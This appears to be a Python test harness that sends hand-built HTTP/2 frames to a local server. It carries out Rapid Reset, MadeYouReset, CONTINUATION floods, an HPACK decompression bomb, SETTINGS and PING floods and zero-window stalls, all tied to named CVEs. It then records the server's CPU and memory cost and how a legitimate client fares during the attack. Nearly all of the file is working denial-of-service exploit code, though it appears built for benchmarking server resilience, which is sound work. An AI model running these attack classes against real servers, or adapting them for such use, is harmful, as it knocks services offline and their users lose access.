#!/usr/bin/python3
"""HTTP/2 attack classes against one h2c (prior knowledge) or TLS h2 listener, with figures.

Each class opens its own connections and writes frames built by hand (RFC 9113 layouts, header blocks from
hpack) where h2's state machine would refuse them: a CONTINUATION flood, a WINDOW_UPDATE that overflows a
stream's window, an RST right after each HEADERS. A reader thread records what the server answers (GOAWAY
code, RST_STREAM codes, responses, EOF). Given the server's PID and the origin's access log it measures what
the attack cost:

  cpu_s        the server's user+system CPU seconds from the attack's start to half a second after its end
  rss_peak_mb  the server's peak resident set during the attack (VmHWM after clear_refs 5, and sampled)
  origin       requests that reached the origin (new access-log lines, the probe's /probe left out)
  probes       a legitimate client (hyper-h2's H2Connection, a fresh connection every 250 ms) during the
               attack: ok / sent, and the slowest answer

Prints one JSON object per run. Usage:
  h2attack.py CLASS --port P [--tls] [--pid PID] [--origin-log FILE] [--duration S] [--path /]
CLASS: rapid-reset, rapid-reset-delayed, madeyoureset, continuation-big, continuation-empty, hpack-bomb,
       settings-flood, ping-flood, settings-flood-noread, ping-flood-noread, zero-window, tcp-zero-window,
       h2load-baseline (not an attack: h2load's plain flood, for scale)
"""
import argparse
import json
import os
import socket
import ssl
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
          5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CLK = os.sysconf("SC_CLK_TCK")


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def block(headers):
    """An HPACK block of literals that never touch the server's dynamic table (replayable as is)."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers], huffman=False)


def literal_indexed(name, value):
    """Literal header field with incremental indexing, new name (RFC 7541 §6.2.1), no Huffman: enters the table."""
    def s(b):
        n = len(b)
        if n < 127:
            return bytes((n,)) + b
        out, n = bytearray((127,)), n - 127
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + b
    return b"\x40" + s(name) + s(value)


class Conn:
    """One client connection: raw sends from the attack loop, a reader thread that records the answers."""

    def __init__(self, args, client_settings=((2, 0),), read=True, rcvbuf=0):
        self.args = args
        self.sock = socket.create_connection(("127.0.0.1", args.port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if args.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname="localhost")
            assert self.sock.selected_alpn_protocol() == "h2", self.sock.selected_alpn_protocol()
        self.scheme = "https" if args.tls else "http"
        self.opened = time.monotonic()
        self.goaway = None       # (code name, last stream id)
        self.closed_at = None    # EOF or reset seen by the reader, or a send that failed
        self.close_how = None
        self.rst = {}            # server RST_STREAM codes → count
        self.statuses = {}       # response :status → count
        self.data_bytes = 0
        self.acks = {"settings": 0, "ping": 0}
        self.sent = 0
        self.lock = threading.Lock()
        self.buf = b""
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.pending = {}
        self.done = False        # set by close(): what the reader sees after that is our own doing
        self.send(PREFACE + settings(client_settings))
        self._read_until_server_settings()
        self.send(frame(SETTINGS, ACK, 0))
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read_loop, daemon=True)
            self.reader.start()

    def req_block(self, path=None, method="GET", extra=()):
        return block([(":method", method), (":scheme", self.scheme), (":authority", "localhost"),
                      (":path", path or self.args.path)] + list(extra))

    def send(self, data):
        if self.closed_at is not None:
            return False
        try:
            self.sock.sendall(data)
            self.sent += len(data)
            return True
        except socket.timeout:
            raise
        except (BrokenPipeError, ConnectionResetError, OSError) as e:
            self._closed("send failed: " + type(e).__name__)
            return False

    def _closed(self, how):
        with self.lock:
            if self.closed_at is None and not self.done:
                self.closed_at = time.monotonic()
                self.close_how = how

    def _read_until_server_settings(self):
        while True:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise RuntimeError("server closed before its SETTINGS")
            self.buf += chunk
            got = self._parse()
            if SETTINGS in got:
                return

    def _read_loop(self):
        # The socket's timeout is shared with the sender (which sets one to notice a server that stopped
        # reading): a timeout here only means nothing arrived yet.
        while self.closed_at is None:
            try:
                chunk = self.sock.recv(262144)
            except socket.timeout:
                continue
            except ssl.SSLWantReadError:
                continue
            except (ConnectionResetError, OSError) as e:
                self._closed("reset: " + type(e).__name__)
                return
            if not chunk:
                self._closed("EOF")
                return
            self.buf += chunk
            self._parse()

    def read_all(self, seconds):
        """For a connection made with read=False: read what arrived, for up to SECONDS or until EOF."""
        deadline = time.monotonic() + seconds
        while self.closed_at is None and time.monotonic() < deadline:
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(262144)
            except socket.timeout:
                break
            except (ConnectionResetError, OSError) as e:
                self._closed("reset: " + type(e).__name__)
                break
            if not chunk:
                self._closed("EOF")
                break
            self.buf += chunk
            self._parse()

    def _parse(self):
        seen = set()
        buf = self.buf
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = buf[pos + 9:pos + 9 + length]
            pos += 9 + length
            seen.add(ftype)
            if ftype == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (ERRORS.get(code, str(code)), int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF)
            elif ftype == RST_STREAM:
                name = ERRORS.get(int.from_bytes(payload[0:4], "big"), "?")
                self.rst[name] = self.rst.get(name, 0) + 1
            elif ftype == DATA:
                self.data_bytes += length
            elif ftype == SETTINGS and flags & ACK:
                self.acks["settings"] += 1
            elif ftype == PING and flags & ACK:
                self.acks["ping"] += 1
            elif ftype in (HEADERS, CONTINUATION):
                if ftype == HEADERS:
                    if flags & 0x8:
                        payload = payload[1:len(payload) - payload[0]]
                    if flags & 0x20:
                        payload = payload[5:]
                self.pending[sid] = self.pending.get(sid, b"") + payload
                if flags & END_HEADERS:
                    try:
                        for k, v in self.decoder.decode(self.pending.pop(sid)):
                            if k == ":status":
                                self.statuses[v] = self.statuses.get(v, 0) + 1
                    except hpack.HPACKError:
                        self.statuses["undecodable"] = self.statuses.get("undecodable", 0) + 1
        self.buf = buf[pos:]
        return seen

    def tcp_state(self):
        """tcpi_state from TCP_INFO: 1 ESTABLISHED, 7 CLOSE (reset), 8 CLOSE_WAIT (FIN received). A client that
        does not read cannot see a FIN or RST behind the unread bytes; the kernel can."""
        return self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]

    def wait_closed(self, seconds):
        deadline = time.monotonic() + seconds
        while self.closed_at is None and time.monotonic() < deadline:
            time.sleep(0.02)
        return self.closed_at is not None

    def close(self):
        # Wake the reader (its recv returns) and wait for it before the descriptor is freed: a reader still
        # blocked on a closed descriptor number would read the next connection's bytes.
        self.done = True
        try:
            socket.socket.shutdown(self.sock, socket.SHUT_RDWR)  # not SSLSocket.shutdown, which drops its state
        except OSError:
            pass
        if self.reader is not None:
            self.reader.join(timeout=5)
        try:
            self.sock.close()
        except OSError:
            pass

    def summary(self):
        return {
            "goaway": self.goaway[0] if self.goaway else None,
            "closed": self.closed_at is not None,
            "how": self.close_how,
            "open_s": round((self.closed_at or time.monotonic()) - self.opened, 2),
            "rst": self.rst, "statuses": self.statuses, "data_bytes": self.data_bytes, "sent_bytes": self.sent,
            "acks": self.acks,
        }


# ---------------------------------------------------------------- measuring the server and a legitimate client


class Meter:
    def __init__(self, pid, origin_log):
        self.pid, self.origin_log = pid, origin_log
        self.peak_kb = 0
        self.running = True
        self.hwm_reset = False
        if pid:
            try:
                with open(f"/proc/{pid}/clear_refs", "w") as f:
                    f.write("5")  # resets VmHWM to the current RSS
                self.hwm_reset = True
            except OSError:
                pass
        self.rss_before_kb = self._status("VmRSS")
        self.cpu_before = self._cpu()
        self.origin_before = self._origin()
        self.t0 = time.monotonic()
        threading.Thread(target=self._sample, daemon=True).start()

    def _status(self, key):
        if not self.pid:
            return 0
        try:
            with open(f"/proc/{self.pid}/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        return int(line.split()[1])
        except OSError:
            pass
        return 0

    def _cpu(self):
        if not self.pid:
            return 0.0
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLK

    def _origin(self):
        """Origin access-log lines, the probe's own requests (path /probe) left out."""
        if not self.origin_log or not os.path.exists(self.origin_log):
            return 0
        with open(self.origin_log, "rb") as f:
            return sum(1 for line in f if b" /probe " not in line)

    def _sample(self):
        while self.running:
            self.peak_kb = max(self.peak_kb, self._status("VmRSS"))
            time.sleep(0.05)

    def finish(self, settle=0.5):
        attack_s = time.monotonic() - self.t0
        time.sleep(settle)
        self.running = False
        peak = max(self.peak_kb, self._status("VmHWM") if self.hwm_reset else 0)
        return {
            "attack_s": round(attack_s, 2),
            "cpu_s": round(self._cpu() - self.cpu_before, 2),
            "rss_before_mb": round(self.rss_before_kb / 1024, 1),
            "rss_peak_mb": round(peak / 1024, 1),
            "rss_after_mb": round(self._status("VmRSS") / 1024, 1),
            "origin": self._origin() - self.origin_before,
        }


class Probe:
    """A legitimate h2 client (hyper-h2's state machine): one GET on a fresh connection every 250 ms."""

    def __init__(self, args):
        self.args, self.ok, self.sent, self.slowest = args, 0, 0, 0.0
        self.errors = {}
        self.running = True
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _one(self):
        start = time.monotonic()
        sock = socket.create_connection(("127.0.0.1", self.args.port), timeout=5)
        try:
            if self.args.tls:
                ctx = ssl.create_default_context()
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
                ctx.set_alpn_protocols(["h2"])
                sock = ctx.wrap_socket(sock, server_hostname="localhost")
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            conn.send_headers(1, [(":method", "GET"), (":scheme", "https" if self.args.tls else "http"),
                                  (":authority", "localhost"), (":path", "/probe")], end_stream=True)
            sock.sendall(conn.data_to_send())
            status = None
            while True:
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("EOF")
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = dict(ev.headers).get(b":status")
                    elif isinstance(ev, h2.events.DataReceived):
                        conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                        if status == b"200":
                            return time.monotonic() - start
                        raise ConnectionError(f"status {status}")
                sock.sendall(conn.data_to_send())
        finally:
            sock.close()

    def _loop(self):
        while self.running:
            self.sent += 1
            try:
                self.slowest = max(self.slowest, self._one())
                self.ok += 1
            except Exception as e:  # noqa: BLE001 - every failure is a failed probe
                name = type(e).__name__ + (": " + str(e) if isinstance(e, ConnectionError) else "")
                self.errors[name] = self.errors.get(name, 0) + 1
            time.sleep(0.25)

    def finish(self):
        self.running = False
        self.thread.join(timeout=6)
        return {"ok": self.ok, "sent": self.sent, "slowest_s": round(self.slowest, 2), "errors": self.errors}


# ---------------------------------------------------------------- the classes


def rapid_reset(args, made_you_reset=False, delayed=False):
    """HEADERS then RST_STREAM(CANCEL), as fast as the socket takes them (CVE-2023-44487); delayed: 100
    HEADERS (the stream limit) in one write, the 100 RSTs --reset-delay later, so the requests have left for
    the origin before they are cancelled (the form that makes a proxy's backend work). MadeYouReset
    (CVE-2025-8671): the client sends no RST; a WINDOW_UPDATE that overflows the stream's window makes the
    server reset the stream itself (a stream error, RFC 9113 §6.9.1). Reconnects after each close."""
    conns, deadline = [], time.monotonic() + args.duration
    streams = refused = 0
    while time.monotonic() < deadline:
        try:
            c = Conn(args)
        except (RuntimeError, OSError):
            refused += 1  # closed before its SETTINGS (a connection cap) or not accepted
            time.sleep(0.01)
            continue
        hb = c.req_block()
        sid = 1
        while c.closed_at is None and c.goaway is None and time.monotonic() < deadline and sid < 2**31 - 400:
            out = []
            if delayed:
                first = sid
                if not c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * i, hb) for i in range(100))):
                    break
                time.sleep(args.reset_delay)
                out = [frame(RST_STREAM, 0, first + 2 * i, struct.pack(">I", 8)) for i in range(100)]
                sid += 200
                if not c.send(b"".join(out)):
                    break
                streams += 100
                continue
            for _ in range(100):
                out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, hb))
                out.append(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF)) if made_you_reset
                           else frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
                sid += 2
            if not c.send(b"".join(out)):
                break
            streams += 100
        # A connection the attack stopped using at its deadline is idle, not closed: no point waiting long.
        c.wait_closed(2 if time.monotonic() < deadline else 0.3)
        c.streams = (sid - 1) // 2
        conns.append(c)
        c.close()
    return conns, {"streams_sent": streams, "refused_connections": refused}


def continuation(args, big):
    """HEADERS without END_HEADERS, then CONTINUATION frames forever (CVE-2024-27316): each carrying 16 KiB of
    new header fields (memory), or empty (CPU only; the header list never grows)."""
    c = Conn(args)
    c.send(frame(HEADERS, 0, 1, c.req_block()))
    if big:
        fill = block([(f"x-fill-{i}", "a" * 200) for i in range(70)])  # ~16 KiB decoded per frame
        batch = frame(CONTINUATION, 0, 1, fill)
    else:
        batch = frame(CONTINUATION, 0, 1) * 2000
    frames, deadline = 0, time.monotonic() + args.duration
    c.sock.settimeout(2)
    while c.closed_at is None and c.goaway is None and time.monotonic() < deadline:
        try:
            if not c.send(batch):
                break
        except socket.timeout:
            break  # the server stopped reading: bounded by TCP flow control
        frames += 1 if big else 2000
    c.wait_closed(args.duration if not (c.closed_at or c.goaway) else 2)
    c.close()
    return [c], {"continuation_frames": frames, "header_bytes_sent": c.sent}


def hpack_bomb(args):
    """One 4,000-byte header enters the dynamic table, then is referenced by one-byte indexes: a 16 KiB
    HEADERS frame that decodes to ~16 MB of header list."""
    c = Conn(args)
    refs = 12000
    hb = c.req_block() + literal_indexed(b"x-bomb", b"a" * 4000) + b"\xbe" * refs
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hb))
    c.wait_closed(5)
    c.close()
    return [c], {"frame_bytes": len(hb), "decoded_bytes": (refs + 1) * (4000 + 6 + 32)}


def flood(args, kind, read):
    """SETTINGS or PING frames, each one the server must acknowledge, as fast as the socket takes them; the
    client reads the ACKs (CPU only) or never reads (the ACKs pile up: CVE-2019-9512/9515)."""
    c = Conn(args, read=read, rcvbuf=4096 if not read else 0)
    f = settings([(2, 0)]) if kind == "settings" else frame(PING, 0, 0, b"12345678")
    batch = f * 1000
    frames, deadline, stalled = 0, time.monotonic() + args.duration, None
    c.sock.settimeout(1)
    while c.closed_at is None and c.goaway is None and time.monotonic() < deadline:
        try:
            if not c.send(batch):
                break
        except socket.timeout:
            # The server stopped reading (its ACKs fill our small receive buffer). sendall may have left half a
            # frame on the wire, so nothing more is sent: from here on, wait for the server to close.
            stalled = time.monotonic() - c.opened
            break
        frames += 1000
    if stalled is not None:
        while time.monotonic() < deadline and c.tcp_state() == 1:
            time.sleep(0.1)
        if c.tcp_state() != 1:
            c._closed("server closed (TCP state %d)" % c.tcp_state())
        c.read_all(0.5)
    elif not read:
        c.read_all(max(0.5, deadline - time.monotonic()))
    else:
        c.wait_closed(1)
    c.close()
    return [c], {"frames_sent": frames, "server_stopped_reading_after_s": round(stalled, 2) if stalled else None}


def zero_window(args, tcp):
    """Many streams for a large response the client never lets through: SETTINGS_INITIAL_WINDOW_SIZE 0 and no
    WINDOW_UPDATE (HTTP/2 flow control), or a normal window and a socket nobody reads (TCP zero window)."""
    streams = args.streams
    if tcp:
        c = Conn(args, client_settings=((2, 0), (4, 2**31 - 1)), read=False, rcvbuf=4096)
        c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    else:
        c = Conn(args, client_settings=((2, 0), (4, 0)))
    hb = c.req_block(path=args.big_path)
    c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, hb) for i in range(streams)))
    if tcp:
        c.read_all(0.01)
        deadline = time.monotonic() + args.duration
        while c.closed_at is None and time.monotonic() < deadline:
            time.sleep(0.1)
            if c.tcp_state() != 1:  # no longer ESTABLISHED: the server sent FIN or RST
                c._closed("server closed (TCP state %d)" % c.tcp_state())
        c.read_all(2)
    else:
        c.wait_closed(args.duration)
    c.close()
    return [c], {"streams": streams}


def baseline(args):
    """Not an attack: h2load's plain request flood (one connection, 100 streams, answers awaited), for scale."""
    import subprocess
    url = f"{'https' if args.tls else 'http'}://127.0.0.1:{args.port}{args.path}"
    r = subprocess.run(["h2load", "-D", str(int(args.duration)), "-c", "1", "-m", "100", url],
                       capture_output=True, text=True, timeout=args.duration + 30)
    done = next((line.split()[1] for line in r.stdout.splitlines() if line.startswith("requests:")), "0")

    class Done:
        streams = int(done)
        def summary(self):
            return {"goaway": None, "closed": False, "how": None, "open_s": args.duration, "rst": {},
                    "statuses": {}, "data_bytes": 0, "sent_bytes": 0, "acks": {}}
    return [Done()], {"streams_sent": int(done)}


CLASSES = {
    "h2load-baseline": baseline,
    "rapid-reset": lambda a: rapid_reset(a),
    "rapid-reset-delayed": lambda a: rapid_reset(a, delayed=True),
    "madeyoureset": lambda a: rapid_reset(a, made_you_reset=True),
    "continuation-big": lambda a: continuation(a, big=True),
    "continuation-empty": lambda a: continuation(a, big=False),
    "hpack-bomb": hpack_bomb,
    "settings-flood": lambda a: flood(a, "settings", read=True),
    "ping-flood": lambda a: flood(a, "ping", read=True),
    "settings-flood-noread": lambda a: flood(a, "settings", read=False),
    "ping-flood-noread": lambda a: flood(a, "ping", read=False),
    "zero-window": lambda a: zero_window(a, tcp=False),
    "tcp-zero-window": lambda a: zero_window(a, tcp=True),
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("cls", choices=sorted(CLASSES))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--pid", type=int, default=0)
    p.add_argument("--origin-log", default="")
    p.add_argument("--duration", type=float, default=5)
    p.add_argument("--path", default="/")
    p.add_argument("--big-path", default="/big")
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--reset-delay", type=float, default=0.005)
    p.add_argument("--no-probe", action="store_true")
    args = p.parse_args()

    meter = Meter(args.pid, args.origin_log)
    probe = None if args.no_probe else Probe(args)
    conns, extra = CLASSES[args.cls](args)
    figures = meter.finish()
    out = {"class": args.cls, **extra, **figures, "connections": len(conns)}
    if probe:
        out["probes"] = probe.finish()
    summaries = [c.summary() for c in conns]
    out["first"] = summaries[0] if summaries else {}
    closed = [s["open_s"] for s in summaries if s["closed"]]
    out["closed_connections"] = len(closed)
    out["open_connections"] = len(summaries) - len(closed)
    out["close_s_max"] = max(closed) if closed else None
    out["close_s_median"] = sorted(closed)[len(closed) // 2] if closed else None
    out["ends"] = {}
    out["rst"] = {}
    for s in summaries:
        key = s["goaway"] or (str(s["how"]) if s["closed"] else "open")
        key = "GOAWAY " + key if s["goaway"] else key
        out["ends"][key] = out["ends"].get(key, 0) + 1
        for k, v in s["rst"].items():
            out["rst"][k] = out["rst"].get(k, 0) + v
    if len(conns) > 1:
        out["streams_per_connection_max"] = max(c.streams for c in conns)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
